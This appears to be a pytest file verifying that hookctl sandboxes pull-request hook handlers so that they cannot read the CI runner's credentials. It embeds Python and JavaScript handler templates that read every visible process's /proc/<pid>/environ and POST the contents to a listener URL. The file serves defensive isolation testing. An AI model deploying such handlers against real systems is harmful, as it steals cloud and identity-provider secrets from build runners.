"""A handler run by ``hookctl test`` or ``hookctl invoke`` cannot read the runner's credentials:
it sees no other process (their ``/proc/<pid>/environ`` hold the environment they started with)
and gets an environment of its own (issue 11, item 5).

The handlers are the pull request's code: each reads ``/proc/<pid>/environ`` of every process it
can see and sends what it read to the attacker's listener."""

from __future__ import annotations

import pytest

from provisioner.local.isolation import isolation

from .harness import Listener, PullRequest

PY_LEAK = """\
import os
import urllib.request


def lambda_handler(event, context):
    seen = []
    for pid in os.listdir("/proc"):
        if pid.isdigit():
            try:
                with open(f"/proc/{pid}/environ", "rb") as fh:
                    seen.append(pid.encode() + b"=" + fh.read())
            except OSError:
                pass
    body = b"\\n".join(seen) + b"\\nprocesses=" + str(len(seen)).encode()
    urllib.request.urlopen(urllib.request.Request({{ url | py }}, data=body), timeout=5).read()
    return event
"""
JS_LEAK = """\
const fs = require("fs");
const http = require("http");
exports.onExecutePostLogin = async (event, api) => {
  const seen = [];
  for (const pid of fs.readdirSync("/proc").filter((p) => /^[0-9]+$/.test(p))) {
    try { seen.push(pid + "=" + fs.readFileSync(`/proc/${pid}/environ`, "latin1")); } catch (e) {}
  }
  const body = seen.join("\\n") + "\\nprocesses=" + seen.length;
  await new Promise((resolve) => {
    const req = http.request({{ url | js }}, { method: "POST" }, (res) => { res.resume(); res.on("end", resolve); });
    req.on("error", resolve);
    req.end(body);
  });
};
"""
STACK = """\
stack: pr
environments:
  ci:
    auth0: {{domain: exampleco.us.auth0.com}}
    cognito: {{region: eu-west-1, pools: {{main: eu-west-1_AbC123}}}}
vars: {{url: "{url}"}}
auth0:
  actions:
    leak-js:
      trigger: post-login
      template: auth0/leak.js.j2
cognito:
  functions:
    leak-py:
      template: cognito/leak.py.j2
      runtime: python3.12
      trigger: PreSignUp
"""
CASES = """\
cases:
  - {name: node reads every environ it can, action: leak-js, expect: [{error: false}]}
  - {name: python reads every environ it can, function: leak-py, expect: [{error: false}]}
"""


def _pull_request(pr: PullRequest, listener: Listener) -> None:
    pr.write("stacks/pr.yaml", STACK.format(url=listener.url + "/collect"))
    pr.write("stacks/pr.tests.yaml", CASES)
    pr.write("stacks/templates/auth0/leak.js.j2", JS_LEAK)
    pr.write("stacks/templates/cognito/leak.py.j2", PY_LEAK)


@pytest.mark.skipif(not isolation().available, reason="this machine allows no user/PID/mount namespace")
def test_hookctl_test__handlers_read_every_visible_environ__no_runner_credential(
    pr: PullRequest, listener: Listener
) -> None:
    _pull_request(pr, listener)
    run = pr.hk("test", "-s", "stacks/pr.yaml", "--junit", "junit.xml")
    assert run.code == 0, run.all
    assert "2 passed, 0 failed" in run.out
    sent = b"".join(listener.received)
    assert sent.count(b"processes=") == 2  # both handlers ran and sent what they could read ...
    assert b"processes=1\n" in sent or sent.rstrip().endswith(b"processes=1")  # ... their own process only
    pr.assert_clean()


@pytest.mark.skipif(not isolation().available, reason="this machine allows no user/PID/mount namespace")
@pytest.mark.parametrize("name", ["leak-js", "leak-py"])
def test_hookctl_invoke__handler_reads_every_visible_environ__no_runner_credential(
    pr: PullRequest, listener: Listener, name: str
) -> None:
    _pull_request(pr, listener)
    run = pr.hk("invoke", "-s", "stacks/pr.yaml", name, "--json")
    assert run.code == 0, run.all
    assert b"processes=" in b"".join(listener.received)
    pr.assert_clean()


def test_no_isolation__credentials_in_the_environment__warned(pr: PullRequest, listener: Listener) -> None:
    """Where the platform allows no namespace, hookctl says so and names the credentials it holds."""
    _pull_request(pr, listener)
    run = pr.hk("test", "-s", "stacks/pr.yaml", "-k", "python", HOOKCTL_ISOLATION="off")
    assert "handlers run without isolation" in run.all
    assert "AUTH0_CLIENT_SECRET" in run.all and "AWS_SECRET_ACCESS_KEY" in run.all
    assert "SLACK_WEBHOOK_URL" not in run.all  # not a name hookctl knows as a credential
